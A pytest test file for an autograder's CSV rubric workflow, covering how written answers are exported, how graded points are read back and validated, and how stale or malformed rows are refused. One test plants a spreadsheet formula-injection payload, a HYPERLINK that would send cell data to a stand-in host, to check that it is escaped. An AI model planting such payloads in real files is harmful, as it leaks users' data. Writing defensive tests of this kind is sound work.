"""Written answers graded in a spreadsheet: what is written, what is refused, and what a later grading leaves alone."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import nbformat
import pytest

from autograder.__main__ import main
from autograder.configuration import load_configuration
from autograder.course import Course
from autograder.errors import CourseError
from autograder.filled_in import number
from autograder.grading.examine import Examined
from autograder.grading.gradebook_writer import GradebookWriter
from autograder.grading.manual_grading import LONGEST_ANSWER, graded_notebook, shortened, version_of, write_rubric
from autograder.grading.records import read_record
from autograder.grading.rubric import read_rubric
from autograder.grading.scores import Score, Status, read_score

Rows = list[dict[str, str]]


def written(course: Course, path: Path) -> Rows:
    """The rubric of the class as a spreadsheet opens it."""
    write_rubric(course, "classwork", path)
    with path.open(newline="", encoding="utf-8-sig") as file:
        return list(csv.DictReader(file))


def save(rows: Rows, path: Path, delimiter: str = ",") -> None:
    """Save as a spreadsheet does."""
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, list(rows[0]), delimiter=delimiter)
        writer.writeheader()
        writer.writerows(rows)


def score_of(course: Course, student: str) -> Score:
    """A student's score as it stands."""
    with course.gradebook() as gradebook:
        return read_score(course, gradebook, student, "classwork")


def graded_again(course: Course, student: str, text: str | None = None) -> None:
    """Write a submission's results again, as grading does, with another written answer if one is given."""
    record, notebook = read_record(course, student, "classwork"), graded_notebook(course, student, "classwork")
    assert record is not None and notebook is not None
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "written-why" and text is not None:
            cell.source = text
    with GradebookWriter(course, load_configuration(course), "classwork") as writer:
        writer.write(Examined(nbformat.writes(notebook).encode(), record))


def row_of(rows: Rows, student: str) -> dict[str, str]:
    """The row of one student."""
    return next(row for row in rows if row["student"] == student)


def test_the_rubric_has_every_written_answer_with_its_text_and_points_so_far(own_class: Course, tmp_path: Path) -> None:
    rows = written(own_class, tmp_path / "rubric.csv")
    assert {row["student"] for row in rows} == {"ada", "ben", "cem", "dan", "eve"}
    ada, dan = row_of(rows, "ada"), row_of(rows, "dan")
    assert (ada["exercise"], ada["max_points"], ada["points"], ada["comment"]) == ("why", "3", "", "")
    assert ada["answer"].startswith("Because two.")
    assert (dan["points"], dan["comment"]) == ("0", "No response.")


def test_an_answer_is_never_run_as_a_formula_and_fits_a_cell(own_class: Course, tmp_path: Path) -> None:
    graded_again(own_class, "ada", '=HYPERLINK("http://host/?"&A1)')
    assert row_of(written(own_class, tmp_path / "rubric.csv"), "ada")["answer"].startswith("'=HYPERLINK")
    assert len(shortened("é" * 50_000)) < 32_767 and shortened("é" * LONGEST_ANSWER) == "é" * LONGEST_ANSWER


def test_points_and_comments_are_entered_and_the_score_is_final(
    own_class: Course, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path, course = tmp_path / "rubric.csv", ["--course", str(own_class.folder)]
    assert main(["rubric", "classwork", "--write", str(path), *course]) == 0
    with path.open(newline="", encoding="utf-8-sig") as file:
        rows = list(csv.DictReader(file))
    row_of(rows, "ada").update(points="2,5", comment="'=Clear, and “short”")
    save(rows, path, delimiter=";")
    assert score_of(own_class, "ada").status is Status.PENDING
    assert main(["rubric", "classwork", "--read", str(path), *course]) == 0
    assert "1 answers entered, 4 as they were, 0 not graded yet" in capsys.readouterr().out
    ada = score_of(own_class, "ada")
    assert (ada.status, ada.earned, ada.pending) == (Status.GRADED, 8.5, 0)
    again = row_of(written(own_class, tmp_path / "again.csv"), "ada")
    assert (again["points"], again["comment"]) == ("2.5", "'=Clear, and “short”")
    assert main(["rubric", "classwork", "--read", str(tmp_path / "again.csv"), *course]) == 0
    assert "0 answers entered, 5 as they were" in capsys.readouterr().out
    assert main(["rubric", "classwork", "--write", str(path), *course]) == 2, "a filled in file is not replaced"


def test_a_blank_cell_changes_nothing(own_class: Course, tmp_path: Path) -> None:
    path = tmp_path / "rubric.csv"
    rows = written(own_class, path)
    row_of(rows, "ada").update(points="2", comment="good")
    save(rows, path)
    read_rubric(own_class, "classwork", path)
    row_of(rows, "ada").update(points="", comment="")
    save(rows, path)
    result = read_rubric(own_class, "classwork", path)
    assert (result.entered, result.blank) == ([], 1)
    ada = row_of(written(own_class, path), "ada")
    assert (ada["points"], ada["comment"]) == ("2", "good")


def test_one_row_that_cannot_be_right_keeps_all_out_and_every_such_row_is_listed(
    own_class: Course, tmp_path: Path
) -> None:
    path = tmp_path / "rubric.csv"
    rows = written(own_class, path)
    gradebook = (own_class.data / "gradebook.db").read_bytes()
    good, points = {**row_of(rows, "ada"), "points": "1"}, row_of(rows, "ben")
    bad = [
        {**points, "points": "3.5"}, {**row_of(rows, "cem"), "points": "-1"}, {**row_of(rows, "dan"), "points": "two"},
        {**row_of(rows, "eve"), "points": "nan"}, {**good, "student": "zoe"},
        {**good, "student": "ben", "exercise": "how"}, {**good, "points": "2"},
    ]  # fmt: skip
    save([good, *bad], path)
    with pytest.raises(CourseError) as refused:
        read_rubric(own_class, "classwork", path)
    message = str(refused.value)
    assert "nothing was entered, because 7 of 8 rows cannot be right" in message
    for line, part in [
        (3, "ben: points are 3.5, expected a number from 0 to 3"), (4, "cem: points are -1, expected"),
        (5, "dan: points are 'two', expected a number"), (6, "eve: points are 'nan'"),
        (7, "zoe: no graded submission of a student 'zoe'"), (8, "ben: no written exercise 'how'; there are why"),
        (9, "ada: why stands in line 2 already"),
    ]:  # fmt: skip
        assert f"line {line}, {part}" in message
    assert (own_class.data / "gradebook.db").read_bytes() == gradebook


def test_lines_are_counted_as_an_editor_does_though_answers_have_several(own_class: Course, tmp_path: Path) -> None:
    path = tmp_path / "rubric.csv"
    graded_again(own_class, "ada", "One.\n\nTwo.\nThree.")
    rows = written(own_class, path)
    row_of(rows, "ben").update(points="9")
    save(rows, path)
    lines = path.read_text().splitlines()
    with pytest.raises(CourseError, match=r"line (\d+), ben") as refused:
        read_rubric(own_class, "classwork", path)
    found = re.search(r"line (\d+), ben", str(refused.value))
    assert found and lines[int(found[1]) - 1].startswith("ben,why")


def test_points_for_a_text_that_has_changed_since_are_refused(own_class: Course, tmp_path: Path) -> None:
    path = tmp_path / "rubric.csv"
    rows = written(own_class, path)
    row_of(rows, "ada").update(points="3")
    save(rows, path)
    graded_again(own_class, "ada", "Because three.")
    with pytest.raises(CourseError, match="the answer to why has changed since the rubric was written"):
        read_rubric(own_class, "classwork", path)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"student,points\nada,3\n", "version missing"),
        (b"", "is empty; expected a CSV file with a header line with student, exercise"),
        (b"student;exercise;points;comment;version\nada;why;1;a;b;c\n", "has 6 fields, the header 5"),
        (b'student,exercise,points,comment,version\n"ada' + b"x" * 200_000, "field larger than field limit"),
    ],
)
def test_a_file_that_is_no_rubric_is_refused(own_class: Course, tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "rubric.csv"
    path.write_bytes(content)
    with pytest.raises(CourseError, match=message):
        read_rubric(own_class, "classwork", path)


def test_grading_again_keeps_points_given_by_hand_until_the_answer_changes(own_class: Course, tmp_path: Path) -> None:
    path = tmp_path / "rubric.csv"
    rows = written(own_class, path)
    row_of(rows, "ada").update(points="2", comment="good")
    save(rows, path)
    read_rubric(own_class, "classwork", path)
    graded_again(own_class, "ada")
    same = score_of(own_class, "ada")
    assert (same.status, same.earned, same.problem) == (Status.GRADED, 8, "")
    for _ in range(2):  # graded once more, it still waits
        graded_again(own_class, "ada", "Because of something else.")
        changed = score_of(own_class, "ada")
        assert (changed.status, changed.earned, changed.pending) == (Status.PENDING, 8, 3)
        assert "the answer of written-why changed since it was graded by hand" in changed.problem
    rows = written(own_class, path)
    assert row_of(rows, "ada")["points"] == "", "points for another text are not offered as points for this one"
    row_of(rows, "ada").update(points="2")
    save(rows, path)
    read_rubric(own_class, "classwork", path)
    assert score_of(own_class, "ada").status is Status.GRADED


def test_a_file_as_excel_saves_it_keeps_its_accents(own_class: Course, tmp_path: Path) -> None:
    path = tmp_path / "rubric.csv"
    rows = written(own_class, path)
    row_of(rows, "ada").update(points="1,5", comment="Schön erklärt")
    save(rows, path, delimiter=";")
    path.write_bytes(path.read_text(encoding="utf-8").replace("\n", "\r\n").encode("cp1252", "replace"))
    read_rubric(own_class, "classwork", path)
    assert row_of(written(own_class, path), "ada")["comment"] == "Schön erklärt"


def test_a_number_may_have_a_decimal_comma_and_nothing_else() -> None:
    assert (number("1,5"), number(" 2.25 "), number("3")) == (1.5, 2.25, 3.0)
    for text in ("", "1.234,5", "1,2,3", "inf", "NaN", "two", "0x10"):
        with pytest.raises(ValueError):
            number(text)


def test_the_name_of_a_text_is_no_number_to_a_spreadsheet() -> None:
    assert version_of("a") == version_of(" a\n") != version_of("b")
    assert all(version_of(str(count)).startswith("v") for count in range(50))
